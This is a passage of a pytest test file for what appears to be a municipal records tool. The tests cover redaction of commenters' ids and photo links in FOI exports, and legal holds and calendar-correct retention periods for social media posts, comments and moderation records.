) -> None:
    # x.com/i/web/status/<id> shows who wrote a reply (facebook.com/<id> a comment).
    records, tweet, reply = tmp_path / "records", "1860000000000000001", "1860000000000000777"
    on_x = {"platform": "twitter", "post_id": tweet}
    _add_comment(records, reply, "Is Laurel Crescent included?", "2026-11-24T18:00:00+00:00",
                 "2044", author_id="2044", parent_id=tweet, **on_x)  # fmt: skip
    _add_comment(records, "1860000000000000778", "Laurel too, @2044?", "2026-11-24T18:01:00+00:00",
                 "3055", author_id="3055", parent_id=reply, **on_x)  # fmt: skip
    answer = "1860000000000000779"  # the City's own answer: its public record keeps its id
    _add_comment(records, answer, "Yes, Laurel is on Tuesday.", "2026-11-24T18:02:00+00:00",
                 "1601", author_id="1601", parent_id=reply, by_city=True, **on_x)  # fmt: skip
    ModerationLog(records).decided("twitter", reply, "keep", "Records Officer", "a question",
                                   None, "applied")  # fmt: skip
    out = tmp_path / "foi"
    export(records, ROOT, "FOI-2026-014", ["Laurel"], out, redact=True)
    for name in ("records.json", "records.csv", "report.html"):
        severed = (out / "redacted" / name).read_text()
        assert not re.search(r"\b(?:2044|3055)\b", severed) and reply not in severed, name
        assert "1860000000000000778" not in severed, name
    data = json.loads((out / "redacted" / "records.json").read_text())["records"]
    # Stand-ins in export order keep each thread together; the City's post and answer are its own.
    assert [(r["comment_id"], r["data"].get("parent_id")) for r in data] == [
        ("comment-1", tweet),
        ("comment-2", "comment-1"),
        (answer, "comment-1"),
        ("comment-1", None),  # the decision about the first reply
    ]
    assert all(r["data"]["comment_id"] == r["comment_id"] for r in data)
    report = (out / "redacted" / "report.html").read_text()
    assert report.index("twitter comment comment-1 ") < report.index("twitter comment comment-2")
    assert f"twitter comment {answer}, a reply to comment comment-1, by <span>1601</span>" in report
    assert reply in (out / "records.json").read_text()  # the original set keeps every id


def test_a_severed_export_does_not_keep_the_id_of_the_comment_a_removed_reply_went_with(
    tmp_path: Path,
) -> None:
    records = tmp_path / "records"
    _add_comment(records, "104_777", "Laurel is a mess", "2026-11-24T18:00:00+00:00",
                 "Avery Lee", author_id="901")  # fmt: skip
    _add_comment(records, "104_778", "Laurel agreed", "2026-11-24T18:05:00+00:00",
                 "Jordan Park", author_id="902", parent_id="104_777")  # fmt: skip
    _removed(records, "104_777", "Avery Lee")
    _removed(records, "104_778", "Jordan Park", removed_with="104_777")  # Facebook took it too
    out = tmp_path / "foi"
    export(records, ROOT, "FOI-2026-014", ["Laurel"], out, redact=True)
    for name in ("records.json", "records.csv", "report.html"):
        # facebook.com/104_777 shows Avery Lee's comment
        assert "104_777" not in (out / "redacted" / name).read_text(), name
    data = json.loads((out / "redacted" / "records.json").read_text())["records"]
    assert [(r["comment_id"], r["data"].get("removed_with")) for r in data] == [
        ("comment-1", None),
        ("comment-2", None),
        ("comment-1", None),
        ("comment-2", "comment-1"),  # its own comment's stand-in
    ]


def test_a_severed_export_keeps_the_id_of_the_citys_x_update_reply_a_resident_answers(
    site: Site, sandboxes: Sandboxes, tmp_path: Path
) -> None:
    site.add("2026-11-20-flushing")
    site.syndicate_to(sandboxes)
    site.add("2026-11-20-flushing", modified="2026-11-22 10:00",
             correction="Flushing moved to Hazelwood Drive on Dec. 2")  # fmt: skip
    settings = site.syndicate_to(sandboxes)  # X is told in an "Update:" reply
    records = site.root / "records"
    (update,) = [r for r in search(records, "Hazelwood") if r.platform == "twitter"]
    reply = update.data["reply_id"]
    question = sandboxes.twitter.add_reply(reply, "Is Laurel Crescent included?", "Jordan Park")
    collect(settings, site.content, say=lambda _: None)
    out = tmp_path / "foi"
    export(records, ROOT, "FOI-2026-014", ["flushing"], out, redact=True)
    data = json.loads((out / "redacted" / "records.json").read_text())["records"]
    (resident,) = [r for r in data if r["type"] == "comment"]
    # The City's reply is its own public record, as its post is: only the resident's id goes.
    assert (resident["comment_id"], resident["data"]["parent_id"]) == ("comment-1", reply)
    assert question not in (out / "redacted" / "records.json").read_text()


def test_a_severed_export_does_not_keep_the_facebook_address_of_a_commenters_photo(
    site: Site, sandboxes: Sandboxes, tmp_path: Path
) -> None:
    # Facebook's page of a photo (photo.php?fbid=…) shows who posted it, and its picture is
    # the commenter's own upload: either leads to them, as their comment's id would.
    site.add("2026-11-20-flushing")
    settings = site.syndicate_to(sandboxes)
    post = next(iter(sandboxes.facebook.posts))
    tub = "https://scontent.xx.fbcdn.net/v/t39/brown-water-in-my-tub.jpg"
    page = "https://www.facebook.com/photo.php?fbid=7301"
    photo = {"type": "photo", "url": page, "media": {"image": {"src": tub}}}
    sandboxes.facebook.add_comment(post, "", "Jordan Park", attachment=photo)  # only the photo
    collect(settings, site.content, say=lambda _: None)
    moderate_collected(  # the review queue quotes the picture's address as its evidence
        settings, site.content, ModerationPolicy.load(ROOT / "policy"), say=lambda _: None
    )
    out = tmp_path / "foi"
    export(site.root / "records", ROOT, "FOI-2026-014", ["flushing"], out, redact=True)
    original = (out / "report.html").read_text()
    for address in (page, tub):  # flagged for the records officer
        assert f"<td>attachment</td><td>{address}</td></tr>" in original
    for name in ("records.json", "records.csv", "report.html"):
        severed = (out / "redacted" / name).read_text()
        assert "Jordan Park" not in severed and "fbid=7301" not in severed, name
        assert "brown-water-in-my-tub" not in severed, name
    data = json.loads((out / "redacted" / "records.json").read_text())["records"]
    (comment,) = [r for r in data if r["type"] == "comment"]
    severed_photo = "[severed: FOIPPA s.22, attachment of a third party]"
    assert comment["data"]["attachment"] == {  # what it was stays: the records officer sees it
        "type": "photo",
        "url": severed_photo,
        "media": {"image": {"src": severed_photo}},
    }
    (classification,) = [r for r in data if r["type"] == "moderation"]
    assert classification["data"]["evidence"]["attachment_only"]["matched"] == [severed_photo]
    (city_post,) = [r for r in data if r["type"] == "post" and r["platform"] == "facebook"]
    assert "https://news.trail.ca" in city_post["text"]  # the City's own post as published


@pytest.mark.parametrize("author", ["", "  "])
def test_a_severed_export_severs_the_account_and_photo_of_a_commenter_with_no_name(
    tmp_path: Path, author: str
) -> None:
    # A platform may give no name for who commented (Graph leaves out `from` where the token
    # may not read it, YouTube a closed channel's name): still a third party, whose account id
    # and photo lead to them as a name would. Who is the City is the platform's word.
    records = tmp_path / "records"
    page = "https://www.facebook.com/photo.php?fbid=7301"
    tub = "https://scontent.xx.fbcdn.net/v/t39/brown-water-in-my-tub.jpg"
    photo = {"type": "photo", "url": page, "media": {"image": {"src": tub}}}
    _add_comment(records, "c1", "Our tub", "2026-11-24T18:00:00+00:00", author,
                 author_id="4936602119", by_city=False, attachment=photo)  # fmt: skip
    out = tmp_path / "foi"
    export(records, ROOT, "FOI-2026-014", ["tub"], out, redact=True)
    original = (out / "report.html").read_text()
    for what, value in [("account id", "4936602119"), ("attachment", page), ("attachment", tub)]:
        assert f"<td>{what}</td><td>{value}</td></tr>" in original, what
    for name in ("records.json", "records.csv", "report.html"):
        severed = (out / "redacted" / name).read_text()
        assert "4936602119" not in severed and "fbid=7301" not in severed, name
        assert "brown-water-in-my-tub" not in severed, name


def test_retention_lists_what_is_due_and_never_held_records(archive: Path, tmp_path: Path) -> None:
    policy_file = tmp_path / "retention.yml"
    policy_file.write_text(
        "periods_days: {post: 10, comment: 10, moderation: 365}\n"
        "legal_holds:\n  - name: FOI-2026-014\n"
        "    announcements: [2026-11-20-flushing]\n"
    )
    policy = RetentionPolicy.load(policy_file)
    later = datetime.now(UTC) + timedelta(days=30)
    due = due_for_disposition(archive, policy, later)
    assert due and {r.type for r in due} == {"post", "comment"}
    assert all(r.announcement != "2026-11-20-flushing" for r in due)
    assert due_for_disposition(archive, policy, datetime.now(UTC)) == []
    policy_file.write_text("periods_days: {post: 10, comment: 10, moderation: 30}\n")
    with pytest.raises(RetentionError, match=r"moderation: at least 365 days \(FOIPPA s.31\)"):
        RetentionPolicy.load(policy_file)


def test_a_hold_on_an_author_holds_the_moderation_records_about_their_comments(
    archive: Path, tmp_path: Path
) -> None:
    policy_file = tmp_path / "retention.yml"
    policy_file.write_text(
        "periods_days: {post: 10, comment: 10, moderation: 365}\n"
        "legal_holds:\n  - name: FOI-2026-014\n    authors: [Riley Cole]\n"
    )
    about = [r for r in search(archive, "") if r.comment_id and r.commenter == "Riley Cole"]
    assert [(r.type, r.author) for r in about] == [
        ("comment", "Riley Cole"),
        ("moderation", ""),  # the classification: no one wrote it
        ("moderation", "classifier (policy/moderation.yml)"),  # its hide: who decided
    ]
    later = datetime.now(UTC) + timedelta(days=4000)
    due = due_for_disposition(archive, RetentionPolicy.load(policy_file), later)
    assert {r.type for r in due} == {"post", "comment", "moderation"}  # others are due
    assert not {r.key for r in about} & {r.key for r in due}


def test_a_legal_hold_on_an_author_holds_the_records_search_finds_under_that_name(
    archive: Path, tmp_path: Path
) -> None:
    # The records officer finds the commenter's records with `records search --author`, then
    # writes the hold with the name as they typed it there.
    found = {r.key for r in search(archive, "", author="riley cole") if r.type == "comment"}
    assert found, "records search finds Riley Cole's comment under 'riley cole'"
    policy_file = tmp_path / "retention.yml"
    policy_file.write_text(
        "periods_days: {post: 10, comment: 10, moderation: 365}\n"
        "legal_holds:\n  - name: Litigation hold, Cole v. Trail\n    authors: [' riley  COLE']\n"
    )
    later = datetime.now(UTC) + timedelta(days=4000)
    due = due_for_disposition(archive, RetentionPolicy.load(policy_file), later)
    assert due, "the others' records are due"
    assert not found & {r.key for r in due}, "held records listed as due for disposition"


@pytest.mark.parametrize("named", ["@CaseyD88", "caseyd88"])
def test_a_legal_hold_on_an_x_username_holds_that_commenters_records(
    tmp_path: Path, named: str
) -> None:
    """On X a commenter is known by their @username, which their display name need not
    resemble; `records search --author @caseyd88` finds their records, and a hold written
    with it holds them, the moderation records about their comments too."""
    records = tmp_path / "records"
    x = {"platform": "twitter", "post_id": "p9"}
    _add_comment(records, "t1", "@CityofTrail Laurel floods every spring",
                 "2026-11-24T18:00:00+00:00", "Casey D.", author_id="1700",
                 author_username="caseyd88", **x)  # fmt: skip
    _add_comment(records, "t2", "@CityofTrail it does", "2026-11-24T18:05:00+00:00",
                 "Avery Lee", author_id="1701", author_username="averylee", **x)  # fmt: skip
    for comment in ("t1", "t2"):
        ModerationLog(records).decided(
            "twitter", comment, "keep", "Reviewer A", "Not a reason under the policy", None,
            "applied",
        )  # fmt: skip
    theirs = {r.key for r in search(records, "", author=named)}
    assert len(theirs) == 2, "their comment and the decision about it"
    policy_file = tmp_path / "retention.yml"
    policy_file.write_text(
        f"{PERIODS}legal_holds:\n  - name: FOI-2026-031\n    authors: ['{named}']\n"
    )
    policy = RetentionPolicy.load(policy_file)
    due = {r.key for r in due_for_disposition(records, policy, datetime(2030, 1, 1, tzinfo=UTC))}
    assert len(due) == 2, "Avery Lee's comment and the decision about it are due"
    assert not theirs & due, "held records listed as due for disposition"
    warnings = hold_warnings(read_records(records), policy)
    if named.startswith("@"):
        assert warnings == []
    else:  # held as a name too: the dry run says whose records it takes in, and how to write it
        assert warnings == [
            "legal hold 'FOI-2026-031': authors: 'caseyd88' also holds the records of the X "
            "commenter @caseyd88: a name written without its @ is compared as an X username "
            "too, so a hold keeps more, never less (write '@caseyd88' for that X commenter)"
        ]


def test_a_hold_on_a_name_that_is_also_someone_elses_x_username_says_so(tmp_path: Path) -> None:
    """A hold on Sam (a Facebook commenter) also holds the X commenter @sam's records, who
    may be someone else: kept, as a hold keeps more, never less, and the dry run says so."""
    records = tmp_path / "records"
    _add_comment(records, "f1", "Laurel floods", "2026-11-24T18:00:00+00:00", "Sam")
    _add_comment(records, "t1", "@CityofTrail it does", "2026-11-24T18:05:00+00:00",
                 "Jordan Pike", platform="twitter", post_id="p9", author_id="1702",
                 author_username="sam")  # fmt: skip
    policy_file = tmp_path / "retention.yml"
    policy_file.write_text(f"{PERIODS}legal_holds:\n  - name: FOI-2026-032\n    authors: [sam]\n")
    policy = RetentionPolicy.load(policy_file)
    due = due_for_disposition(records, policy, datetime(2030, 1, 1, tzinfo=UTC))
    assert due == [], "both are held"
    (warning,) = hold_warnings(read_records(records), policy)
    assert "'sam' also holds the records of the X commenter @sam" in warning
    # With @sam named too, taking in their records is what the hold means: nothing to say.
    policy_file.write_text(policy_file.read_text().replace("[sam]", "[sam, '@sam']"))
    assert hold_warnings(read_records(records), RetentionPolicy.load(policy_file)) == []
    # An X commenter who shows the name their @username is: nothing to say either, whoever
    # reviewed their comment (a moderation record's author is its reviewer, not theirs).
    _add_comment(records, "t2", "@CityofTrail thanks", "2026-11-24T18:10:00+00:00", "Riley",
                 platform="twitter", post_id="p9", author_id="1703",
                 author_username="riley")  # fmt: skip
    ModerationLog(records).decided(
        "twitter", "t2", "keep", "Reviewer A", "Not a reason under the policy", None, "applied"
    )
    policy_file.write_text(policy_file.read_text().replace("[sam, '@sam']", "[riley]"))
    assert hold_warnings(read_records(records), RetentionPolicy.load(policy_file)) == []


@pytest.mark.parametrize("platforms", ["[X]", "[x]", "[Twitter]", "[' twitter ']"])
def test_a_hold_names_a_platform_as_records_search_does(tmp_path: Path, platforms: str) -> None:
    """`records search --platform X` finds the X records in any case, and the records officer
    writes the hold as they searched: it holds the same records."""
    records = tmp_path / "records"
    _add_comment(records, "t1", "@CityofTrail Laurel floods", "2026-11-24T18:00:00+00:00",
                 platform="twitter", post_id="p9")  # fmt: skip
    _add_comment(records, "f1", "Laurel floods", "2026-11-24T18:05:00+00:00")
    policy_file = tmp_path / "retention.yml"
    policy_file.write_text(
        f"{PERIODS}legal_holds:\n  - name: FOI-2026-031\n    platforms: {platforms}\n"
    )
    policy = RetentionPolicy.load(policy_file)
    due = due_for_disposition(records, policy, datetime(2030, 1, 1, tzinfo=UTC))
    assert [r.comment_id for r in due] == ["f1"]


def test_records_retention_warns_of_a_hold_that_names_nothing_in_the_archive(
    archive: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture
) -> None:
    # A name mistyped holds nothing: the records officer is told, and the list still comes.
    policy_file = tmp_path / "policy" / "retention.yml"
    policy_file.parent.mkdir()
    policy_file.write_text(
        PERIODS + "legal_holds:\n  - name: FOI-2026-014\n"
        "    announcements: [2026-11-20-flushng]\n    authors: [Riley Colle, riley cole]\n"
    )
    monkeypatch.setattr(tasks, "ROOT", tmp_path)
    monkeypatch.setenv("RECORDS_DIR", str(archive))
    tasks.retention(Context(), dry_run=True)
    shown = capsys.readouterr()
    assert shown.err.splitlines() == [
        f"records retention: warning: {policy_file}: legal hold 'FOI-2026-014': "
        "announcements: '2026-11-20-flushng' is in no record of the archive; it holds nothing",
        f"records retention: warning: {policy_file}: legal hold 'FOI-2026-014': "
        "authors: 'Riley Colle' is in no record of the archive; it holds nothing",
    ]
    assert "due for disposition (dry run)" in shown.out


def test_a_comment_a_decision_was_based_on_is_kept_a_year_after_the_decision(
    site: Site, sandboxes: Sandboxes, tmp_path: Path
) -> None:
    site.add("2026-11-20-flushing")
    settings = site.syndicate_to(sandboxes)
    post = next(iter(sandboxes.facebook.posts))
    rude = sandboxes.facebook.add_comment(post, "What a load of bullshit", "Riley Cole")
    collect(settings, site.content, say=lambda _: None)
    moderate_collected(
        settings, site.content, ModerationPolicy.load(ROOT / "policy"), say=lambda _: None
    )
    assert sandboxes.facebook.comments[rude]["is_hidden"] is True
    policy_file = tmp_path / "retention.yml"
    policy_file.write_text("periods_days: {post: 2555, comment: 30, moderation: 365}\n")
    policy = RetentionPolicy.load(policy_file)

    def due_versions(days: int) -> list[int]:
        later = datetime.now(UTC) + timedelta(days=days)
        due = due_for_disposition(site.root / "records", policy, later)
        return [r.data["version"] for r in due if r.type == "comment" and r.comment_id == rude]

    # FOIPPA s.31: what the hide was based on is kept a year after it, not 30 days.
    assert due_versions(60) == due_versions(364) == []
    assert due_versions(366) == [1]


@pytest.mark.parametrize(
    "periods",
    [
        "periods_days: {post: 2555, comment: 1095, moderation: 365}\n",
        "periods_years: {post: 7, comment: 3, moderation: 1}\n",
    ],
    ids=["days", "years"],
)
def test_a_year_of_moderation_records_is_a_calendar_year_across_a_leap_day(
    tmp_path: Path, periods: str
) -> None:
    records = tmp_path / "records"
    ChainFile(records / FILES["moderation"]).append(
        {**CLASSIFIED, "evidence": {}, "time": "2027-03-01T10:00:00+00:00"}
    )
    policy = tmp_path / "retention.yml"
    policy.write_text(periods)
    # 365 days after 2027-03-01 is 2028-02-29: FOIPPA's year runs to 2028-03-01.
    leap_day = datetime(2028, 2, 29, 12, tzinfo=UTC)
    assert due_for_disposition(records, RetentionPolicy.load(policy), leap_day) == []
    year_on = datetime(2028, 3, 1, 10, tzinfo=UTC)
    assert [
        r.type for r in due_for_disposition(records, RetentionPolicy.load(policy), year_on)
    ] == ["moderation"]


@pytest.mark.parametrize(
    ("kind", "made", "periods", "due_at"),
    [
        # Made 2028-02-28 18:00 in Trail (the 29th in UTC): a calendar year on is 2029-02-28
        # 18:00 in Trail, not 2029-02-27 18:00, which is a year on from the UTC date.
        ("moderation", "2028-02-29T02:00:00+00:00", "moderation: 1", "2029-03-01T02:00:00"),
        # Made 2027-11-05 00:30 PDT: three years on is 2030-11-05 00:30 PST (an hour later in
        # UTC), not 23:30 on the 4th.
        ("comment", "2027-11-05T07:30:00+00:00", "comment: 3", "2030-11-05T08:30:00"),
    ],
    ids=["leap-day", "dst-years"],
)
def test_a_period_in_years_ends_on_the_same_city_day_and_clock(
    tmp_path: Path, kind: str, made: str, periods: str, due_at: str
) -> None:
    records = tmp_path / "records"
    if kind == "moderation":
        ChainFile(records / FILES["moderation"]).append(
            {**CLASSIFIED, "evidence": {}, "time": made}
        )
    else:
        _add_comment(records, "c1", "Laurel floods", made)
    policy_file = tmp_path / "retention.yml"
    others = {"post": 7, "comment": 3, "moderation": 1}
    others[periods.split(":")[0]] = int(periods.split(":")[1])
    policy_file.write_text(f"periods_years: {others}\n".replace("'", ""))
    policy = RetentionPolicy.load(policy_file)
    due = datetime.fromisoformat(due_at).replace(tzinfo=UTC)
    assert due_for_disposition(records, policy, due - timedelta(seconds=1)) == []
    assert [r.type for r in due_for_disposition(records, policy, due)] == [kind]


@pytest.mark.parametrize(
    ("made", "days", "due_at"),
    [
        # Made 2027-10-20 10:00 PDT: 30 days on is 2027-11-19 10:00 PST, across the clocks'
        # change; 30 times 24 hours would end at 09:00 PST.
        ("2027-10-20T17:00:00+00:00", 30, datetime(2027, 11, 19, 18, tzinfo=UTC)),
        # Made 2027-11-07 01:30 PST: 364 days on is 2028-11-05 01:30, which the clocks' change
        # that night shows twice: the second, never the first, an hour early.
        ("2027-11-07T09:30:00+00:00", 364, datetime(2028, 11, 5, 9, 30, tzinfo=UTC)),
    ],
    ids=["across-the-change", "clock-shown-twice"],
)
def test_a_period_in_days_counts_calendar_days_of_city_time(
    tmp_path: Path, made: str, days: int, due_at: datetime
) -> None:
    records = tmp_path / "records"
    _add_comment(records, "c1", "Laurel floods", made)
    policy_file = tmp_path / "retention.yml"
    policy_file.write_text(f"periods_days: {{post: 30, comment: {days}, moderation: 365}}\n")
    policy = RetentionPolicy.load(policy_file)
    assert due_for_disposition(records, policy, due_at - timedelta(seconds=1)) == []
    assert [r.comment_id for r in due_for_disposition(records, policy, due_at)] == ["c1"]


def test_a_hold_on_an_author_holds_every_version_whatever_name_it_showed(tmp_path: Path) -> None:
    """Riley Cole showed "Riley C." when they wrote the comment, and their whole name when
    they edited it: the hold on Riley Cole holds both versions (the same account), the
    moderation about it, and their other comment under yet another name."""
    records = tmp_path / "records"
    made = "2026-01-01T10:00:00+00:00"
    _add_comment(records, "c1", "v1 at 12 Hazelwood", made, "Riley C.", author_id="4936")
    _add_comment(records, "c1", "v2", made, "Riley Cole", author_id="4936", version=2,
                 updated="2026-01-02T10:00:00+00:00")  # fmt: skip
    _add_comment(records, "c2", "and again", made, "R. C.", author_id="4936")
    _add_comment(records, "c3", "Laurel floods", made, "Riley C.", author_id="7777")
    # Where the platform gave no account id, the comment's versions are theirs all the same.
    _add_comment(records, "c4", "first", made, "Riley C.")
    _add_comment(records, "c4", "edited", made, "Riley Cole", version=2,
                 updated="2026-01-02T10:00:00+00:00")  # fmt: skip
    ChainFile(records / FILES["moderation"]).append(
        {**CLASSIFIED, "evidence": {}, "time": "2026-01-01T11:00:00+00:00"}
    )
    policy_file = tmp_path / "retention.yml"
    policy_file.write_text(
        f"{PERIODS}legal_holds:\n  - name: Cole v. Trail\n    authors: [Riley Cole]\n"
    )
    due = due_for_disposition(
        records, RetentionPolicy.load(policy_file), datetime(2030, 1, 1, tzinfo=UTC)
    )
    # Another account that showed "Riley C." is someone else: due.
    assert [(r.comment_id, r.author) for r in due] == [("c3", "Riley C.")]


def _ledger_line(records: Path, phase: str, op: str | None, time: str, **fields: object) -> None:
    line = {"phase": phase, "op": op, "announcement": "2026-11-20-flushing"}
    ChainFile(records / FILES["post"]).append(
        {**line, "platform": "facebook", "action": "create", "time": time, **fields}
    )


# A decision to hide comment c1, as `invoke moderate` writes its intent and its outcome.
HIDE = {
    "platform": "facebook",
    "comment_id": "c1",
    "decision": "hide",
    "who": "Reviewer A",
    "reason": "An insult",
    "category": "derogatory",
}


def test_an_intent_line_is_due_with_its_outcome_or_by_its_own_time_without_one(
    tmp_path: Path,
) -> None:
    """An intent holds what the call was, who and why: it is a record too. It goes with the
    line that answers it; one no line answers (the run stopped mid-call) is due by its own
    time."""
    records = tmp_path / "records"
    _ledger_line(records, "intent", "op1", "2026-01-01T10:00:00+00:00")
    _ledger_line(records, "done", "op1", "2026-01-05T10:00:00+00:00", remote_id="p1")
    _ledger_line(
        records, "intent", "op2", "2026-01-02T10:00:00+00:00", announcement="2026-11-21-bridge"
    )
    _add_comment(records, "c1", "you idiots", "2026-01-01T09:00:00+00:00", "Riley Cole")
    moderation_log = ChainFile(records / FILES["moderation"])
    moderation_log.append({**HIDE, "kind": "intent", "op": "m1", "time": "2026-01-01T11:00:00Z"})
    moderation_log.append(
        {**HIDE, "kind": "intent", "op": "m2", "comment_id": "c2", "time": "2026-01-03T11:00:00Z"}
    )
    moderation_log.append(
        {
            **HIDE,
            "kind": "decision",
            "op": "m1",
            "result": "applied",
            "time": "2026-01-10T11:00:00Z",
        }
    )
    policy_file = tmp_path / "retention.yml"
    policy_file.write_text("periods_days: {post: 10, comment: 10, moderation: 365}\n")
    policy = RetentionPolicy.load(policy_file)

    def due(on: datetime) -> list[str]:
        return [r.key for r in due_for_disposition(records, policy, on)]

    ledger, moderation = str(FILES["post"]), str(FILES["moderation"])
    # The first intent waits for its outcome (due on the 15th); the lone one is due on the 12th.
    assert due(datetime(2026, 1, 13, tzinfo=UTC)) == [
        f"{ledger}:3",
        str(FILES["comment"]) + ":1",
    ]
    assert due(datetime(2026, 1, 16, tzinfo=UTC))[:3] == [
        f"{ledger}:1",
        f"{ledger}:2",
        f"{ledger}:3",
    ]
    # The moderation intent goes with its decision, a year after it; the lone one a year after
    # its own time.
    assert f"{moderation}:1" not in due(datetime(2027, 1, 9, tzinfo=UTC))
    assert f"{moderation}:2" in due(datetime(2027, 1, 9, tzinfo=UTC))
    assert [k for k in due(datetime(2027, 1, 11, tzinfo=UTC)) if k.startswith(moderation)] == [
        f"{moderation}:1",
        f"{moderation}:2",
        f"{moderation}:3",
    ]
    # Held as what it announces is held: the intent about Riley Cole's comment too.
    policy_file.write_text(
        "periods_days: {post: 10, comment: 10, moderation: 365}\n"
        "legal_holds:\n  - name: FOI\n    authors: [Riley Cole]\n"
        "  - name: FOI 2\n    announcements: [2026-11-20-flushing]\n"
    )
    policy = RetentionPolicy.load(policy_file)
    assert due(datetime(2099, 1, 1, tzinfo=UTC)) == [f"{ledger}:3", f"{moderation}:2"]


def _demo_ledger(records: Path) -> None:
    """A ledger as runs write it: each of its phases, outcomes that published nothing among
    them, on an announcement posted (flushing, on Facebook; not on X) and one never posted
    (bridge)."""
    bridge = {"announcement": "2026-11-21-bridge"}
    for phase, op, day, fields in [
        ("intent", "op1", 1, {}),
        ("failed", "op1", 1, {"error": "HTTP 500"}),  # no post yet; one is made next
        ("intent", "op2", 2, {}),
        ("done", "op2", 2, {"remote_id": "p1", "text": "Flushing starts Monday"}),
        ("deferred", None, 3, {"action": "update", "reason": "quota"}),  # a lone note
        ("intent", "op3", 3, {"action": "update"}),
        ("done", "op3", 3, {"action": "update"}),  # sent nothing new
        ("intent", "op4", 4, {"action": "withdraw"}),
        ("cancelled", "op4", 4, {"action": "withdraw"}),
        ("intent", "op5", 5, {"action": "update"}),
        ("done", "op5", 5, {"action": "update", "text": "Flushing starts Tuesday"}),
        ("intent", "op6", 6, {"action": "update"}),
        ("failed", "op6", 6, {"action": "update", "error": "HTTP 400"}),
        ("gone", None, 7, {"action": "collect", "remote_id": "p1"}),
        ("intent", "op7", 1, bridge),
        ("failed", "op7", 1, {**bridge, "error": "HTTP 500"}),
        ("deferred", None, 2, {**bridge, "reason": "quota"}),
        ("deferred", None, 2, {"platform": "twitter", "reason": "quota"}),  # never posted there
    ]:
        _ledger_line(records, phase, op, f"2026-01-0{day}T10:00:00+00:00", **fields)


def test_every_ledger_line_is_due_once_those_that_published_nothing_with_their_post(
    tmp_path: Path,
) -> None:
    """A failed, cancelled or deferred outcome, or an update that sent nothing new, is part of
    its post's history: due once its own period is past and every record of the post on that
    platform is due; with no post there, by its own time."""
    records = tmp_path / "records"
    _demo_ledger(records)
    written = [event for _, event in ChainFile(records / FILES["post"]).reading()]
    assert {event["phase"] for event in written} == set(PHASES)
    policy_file = tmp_path / "retention.yml"
    policy_file.write_text(PERIODS)
    policy = RetentionPolicy.load(policy_file)

    def due(on: datetime) -> list[int]:
        keys = [r.key for r in due_for_disposition(records, policy, on)]
        return [int(key.rsplit(":", 1)[1]) for key in keys]

    assert due(datetime(2099, 1, 1, tzinfo=UTC)) == list(range(1, len(written) + 1))
    # The 12th: bridge, never posted, and flushing on X by their own time (the deferrals of
    # the 2nd too); of flushing on Facebook, its create (and intent) alone: its failure of the
    # 1st waits for its post.
    assert due(datetime(2026, 1, 12, 12, tzinfo=UTC)) == [3, 4, 15, 16, 17, 18]
    # The 16th: its update's too; its failure of the 6th is past, but not the post's gone note.
    assert due(datetime(2026, 1, 16, 12, tzinfo=UTC)) == [3, 4, 10, 11, 15, 16, 17, 18]
    # The 17th: the gone note, the post's last record, is due, and every line with it.
    assert due(datetime(2026, 1, 17, 12, tzinfo=UTC)) == list(range(1, 19))


def test_an_outcome_that_published_nothing_is_held_with_its_post(tmp_path: Path) -> None:
    records = tmp_path / "records"
    _demo_ledger(records)
    policy_file = tmp_path / "retention.yml"
    policy_file.write_text(
        f"{PERIODS}legal_holds:\n  - name: FOI\n    announcements: [2026-11-20-flushing]\n"
    )
    due = due_for_disposition(
        records, RetentionPolicy.load(policy_file), datetime(2099, 1, 1, tzinfo=UTC)
    )
    # The failed create of the held announcement (line 2) is held; the unheld one's is not.
    assert [(r.key.rsplit(":", 1)[1], r.data["phase"]) for r in due] == [
        ("15", "intent"),
        ("16", "failed"),
        ("17", "deferred"),
    ]


def test_a_repeat_of_a_comment_version_is_listed_with_its_version_and_held_with_it(
    tmp_path: Path,
) -> None:
    """Two collects at once each wrote version 1; the join kept both lines. The second names
    the commenter and holds their text as the first does: it goes with it."""
    records = tmp_path / "records"
    (records / "archive" / "attachments").mkdir(parents=True)
    (records / "archive" / "attachments" / "x.jpg").write_bytes(b"jpg")
    picture = {"sha256": hashlib.sha256(b"jpg").hexdigest(), "file": "archive/attachments/x.jpg",
               "type": "image/jpeg"}  # fmt: skip
    photo = {"type": "photo", "url": "https://www.facebook.com/photo.php?fbid=1",
             "media": {"image": {"src": "https://scontent.xx.fbcdn.net/x.jpg"}}}  # fmt: skip
    for _ in range(2):
        _add_comment(records, "c1", "my tub at 12 Hazelwood Dr", "2026-01-01T10:00:00+00:00",
                     "Jordan Park", attachment=photo, picture=picture)  # fmt: skip
    _add_comment(records, "c2", "Laurel floods", "2026-01-01T10:00:00+00:00")
    _removed(records, "c2", "Quinn Reyes", time="2026-01-05T10:00:00+00:00")
    # The other run's deletion of it, found a day later, joined: due with the first.
    _removed(records, "c2", "Quinn Reyes", time="2026-01-06T10:00:00+00:00")
    policy_file = tmp_path / "retention.yml"
    policy_file.write_text(PERIODS)
    later = datetime(2026, 1, 15, 12, tzinfo=UTC)
    due = due_for_disposition(records, RetentionPolicy.load(policy_file), later)
    comments = str(FILES["comment"])
    assert [r.key for r in due] == [f"{comments}:{n}" for n in (1, 2, 3, 4, 5)]
    assert [(p.file, [r.key for r in p.records]) for p in pictures_due(records, due)] == [
        ("archive/attachments/x.jpg", [f"{comments}:1"])  # the version that showed it
    ]
    policy_file.write_text(f"{PERIODS}legal_holds:\n  - name: Park\n    authors: [Jordan Park]\n")
    due = due_for_disposition(records, RetentionPolicy.load(policy_file), later)
    assert [r.key for r in due] == [f"{comments}:{n}" for n in (3, 4, 5)]


@pytest.mark.parametrize(
    ("periods", "line", "message"),
    [
        ("periods_years:\n  post: 10000\n  comment: 3\n  moderation: 3\n", 2,
         "periods_years: post: 10000: expected at most 200 years"),
        ("periods_days: {post: 4000000, comment: 30, moderation: 365}\n", 1,
         "periods_days: post: 4000000: expected at most 73000 days"),
        ("periods_years:\n  post: 7\n  comment: 0\n  moderation: 3\n", 3,
         "periods_years: comment: 0: expected at least 1 year"),
        ("periods_days:\n  post: 30\n  comment: -5\n  moderation: 365\n", 3,
         "periods_days: comment: -5: expected at least 1 day"),
    ],
    ids=["years-too-long", "days-too-long", "zero", "negative"],
)  # fmt: skip
def test_a_period_too_long_or_under_one_is_refused_naming_its_line(
    tmp_path: Path, periods: str, line: int, message: str
) -> None:
    policy_file = tmp_path / "retention.yml"
    policy_file.write_text(periods)
    with pytest.raises(RetentionError) as error:
        RetentionPolicy.load(policy_file)
    assert str(error.value) == f"{policy_file}:{line}: {message}"


